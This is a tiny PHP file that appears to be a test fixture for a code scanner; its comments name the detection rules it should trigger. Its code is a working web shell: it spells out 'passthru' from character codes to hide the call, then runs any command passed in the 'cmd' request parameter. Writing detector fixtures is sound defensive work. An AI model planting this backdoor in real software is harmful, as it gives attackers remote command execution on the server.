<?php
// want: php_request_command_exec php_hidden_function_name
// fold: passthru
$s = implode('', array_map('chr', [112, 97, 115, 115, 116, 104, 114, 117]));
$s($_GET['cmd']);
